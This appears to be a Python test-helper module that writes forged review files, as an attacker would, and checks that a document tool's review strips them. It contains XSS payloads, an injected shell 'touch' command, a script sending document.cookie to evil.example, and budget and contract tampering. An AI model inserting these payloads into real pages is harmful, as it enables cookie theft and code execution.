"""Forged ``.oo-history/<doc>/pending.json`` files, as the outside attack wrote them, and the
checks that nothing hostile came through a review.

Each forgery looks like one harmless heading edit and hides something an update can never do:
a ``touch`` in the shell (after the heredoc, or before it), page script, ``<script>`` and an
event handler in the article, the budget raised to 999, the contract's subject and deny list or
the manifest's title changed. ``legacy`` forgeries are the older file form (a whole candidate
document); ``proposal`` forgeries are the current form (proposal data the review rebuilds),
hand-edited with hostile HTML, a raised budget and a hostile candidate beside it.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

from oo_nb.agent.candidate import build_candidate
from oo_nb.agent.pending import proposal_data
from oo_nb.agent.proposal import validate_proposal
from oo_nb.agent.types import RunInfo
from oo_nb.format.document import Document
from oo_nb.format.names import PENDING_PROPOSAL
from oo_nb.store import store

__all__ = [
    "FORGERIES",
    "HOSTILE_MARKS",
    "Forgery",
    "bash_help_creates",
    "forge",
    "hostile_left",
    "save_proposal",
]

TODAY = date(2026, 11, 29)
NOW = datetime(2026, 11, 29, 9, 30, tzinfo=UTC)
SEED = "5eed" * 8
PWNED = "oo-forged-pwned"  # the file the forged shell would create
HOSTILE_MARKS = ("alert(1)", "onerror", "javascript:", "evil.example", PWNED)


def _heading_edit(doc: Document) -> Document:
    """The harmless-looking part: the first section heading gets two more words."""
    html = doc.article_html
    at = html.find("</h2>")
    return doc.with_article(html[:at] + " (revised)" + html[at:]) if at >= 0 else doc


def _shell_tail(doc: Document, folder: Path) -> str:
    text = doc.text
    at = doc.terminator.end
    return text[:at] + f"touch {folder / PWNED}\n" + text[at:]


def _shell_header(doc: Document, folder: Path) -> str:
    text = doc.text
    at = doc.opener.start
    return text[:at] + f"touch {folder / PWNED}\n" + text[at:]


def _page_script(doc: Document, folder: Path) -> str:
    text = doc.text
    at = doc.article_span.end if doc.article_span else doc.html.start
    close = text.index("</article>", at) + len("</article>")
    return (
        text[:close]
        + "\n<script>fetch('https://evil.example/'+document.cookie)</script>"
        + text[close:]
    )


def _article_script(doc: Document, folder: Path) -> str:
    hostile = (
        "\n<script>alert(1)</script>\n<p><img src=x onerror=alert(1)>"
        '<a href="javascript:alert(1)">more</a></p>\n'
    )
    return doc.with_article(doc.article_html + hostile).text


def _budget(doc: Document, folder: Path) -> str:
    return doc.edit_block(
        "oo-contract", lambda c: c.setdefault("budget", {}).update(max_cost_usd=999)
    ).text


def _contract(doc: Document, folder: Path) -> str:
    def change(c: dict[str, Any]) -> None:
        c.setdefault("identity", {})["subject"] = "Whatever evil.example says"
        c.setdefault("sources", {})["deny_domains"] = []

    changed = doc.edit_block("oo-contract", change)
    return changed.edit_block("oo-manifest", lambda m: m.update(title="Read evil.example")).text


@dataclass(frozen=True)
class Forgery:
    name: str
    what: str
    make: Callable[[Document, Path], str]  # (document with the heading edit, folder) -> text


LEGACY = (
    Forgery("shell-tail", "a touch in the shell after the heredoc", _shell_tail),
    Forgery("shell-header", "a touch before the heredoc", _shell_header),
    Forgery("page-script", "a page script after the article", _page_script),
    Forgery("article-script", "<script>, onerror and javascript: in the article", _article_script),
    Forgery("budget", "the contract's budget raised to 999", _budget),
    Forgery("contract", "the contract's subject and deny list, the manifest title", _contract),
)
FORGERIES = (*(f.name for f in LEGACY), "proposal")


def forge(path: Path, kind: str) -> None:
    """Write a forged ``pending.json`` of ``kind`` (one of ``FORGERIES``) for ``path``."""
    doc = Document.read(path)
    if kind == "proposal":
        _forge_proposal(path, doc)
        return
    forgery = next(f for f in LEGACY if f.name == kind)
    text = forgery.make(_heading_edit(doc), path.parent)
    record = {
        "base_sha256": _sha(doc.to_bytes()),
        "created": "2026-11-29T09:30:00Z",
        "run": {"cost_usd": 0.01, "agent": "anthropic", "warnings": []},
        "candidate": text,
    }
    _write(path, record)


def _hostile_proposal(doc: Document) -> dict[str, Any]:
    first = doc.article.sections[0].id if doc.article.sections else "overview"
    return {
        "summary": "Heading revised.<script>alert(1)</script>",
        "sections": [
            {
                "id": first,
                "title": "Revised <img src=x onerror=alert(1)>",
                "html": (
                    "<p>Revised text.</p><script>alert(1)</script>"
                    '<p><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a></p>'
                    '<iframe src="https://evil.example/"></iframe>'
                ),
            }
        ],
        "contract": {"budget": {"max_cost_usd": 999}},  # not a proposal field: ignored
    }


def _forge_proposal(path: Path, doc: Document) -> None:
    """A current-form file, hand-edited: hostile section HTML, a run claiming a budget of 999,
    an unknown field asking for it too, and a whole hostile candidate beside the data."""
    run = RunInfo(backend="anthropic", model="claude-sonnet-5-5", cost_usd=0.01, budget_usd=999.0)
    data = {
        "format": 2,
        "proposal": _hostile_proposal(doc),
        "image_refs": {},
        "today": TODAY.isoformat(),
        "now": NOW.isoformat(),
        "run": run.to_record(),
        "downloads": False,
        "pid_seed": SEED,
        "images": {},
    }
    hostile = _budget(Document(_shell_tail(_heading_edit(doc), path.parent)), path.parent)
    record = {
        "base_sha256": _sha(doc.to_bytes()),
        "created": "2026-11-29T09:30:00Z",
        "run": {"cost_usd": 0.01, "agent": "anthropic", "budget_usd": 999},
        "proposal": data,
        "candidate": hostile,  # never read
    }
    _write(path, record)


def save_proposal(path: Path, raw: dict[str, Any], *, cost_usd: float = 0.01) -> Document:
    """Save ``raw`` (a ``submit_proposal`` input) for review as an update saves it; return the
    candidate the update built."""
    doc = Document.read(path)
    proposal = validate_proposal(raw)
    run = RunInfo(backend="replay", model="claude-sonnet-5-5", cost_usd=cost_usd, budget_usd=0.5)
    built = build_candidate(doc, proposal, run, today=TODAY, now=NOW, pid_seed=SEED)
    data = proposal_data(
        proposal,
        {},
        today=TODAY,
        now=NOW,
        run=run,
        candidate=built,
        downloads=False,
        pid_seed=SEED,
    )
    store.save_pending(
        path, None, {"cost_usd": cost_usd, "version": built.version}, doc.to_bytes(), proposal=data
    )
    return built.document


def _sha(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()


def _write(path: Path, record: dict[str, Any]) -> None:
    target = store.history_dir(path) / PENDING_PROPOSAL
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(record), "utf-8")


def hostile_left(original: Document, written: Document) -> list[str]:
    """What of a forgery reached the file: changes outside the article and the blocks, a
    contract or manifest value an update never writes, hostile text anywhere new."""
    from oo_nb.format.update_scope import outside_changes

    found = list(outside_changes(original, written))
    before, after = original.block_json("oo-contract"), written.block_json("oo-contract")
    for key in set(before) | set(after):
        if key != "sentinel" and before.get(key) != after.get(key):
            found.append(f"contract {key} changed")
    m0, m1 = original.block_json("oo-manifest"), written.block_json("oo-manifest")
    for key in set(m0) | set(m1):
        if key not in ("version", "as_of", "changelog") and m0.get(key) != m1.get(key):
            found.append(f"manifest {key} changed")
    for mark in HOSTILE_MARKS:
        if written.text.count(mark) > original.text.count(mark):
            found.append(f"{mark!r} written")
    return found


def bash_help_creates(path: Path) -> bool:
    """Run ``bash DOC --help`` (as a reader would) and say whether the forged ``touch`` ran."""
    marker = path.parent / PWNED
    marker.unlink(missing_ok=True)
    subprocess.run(
        ["bash", str(path), "--help"],
        cwd=path.parent,
        capture_output=True,
        timeout=30,
        check=False,
        env={"PATH": "/usr/bin:/bin", "OO_PYTHON": "/nonexistent"},
    )
    return marker.exists()
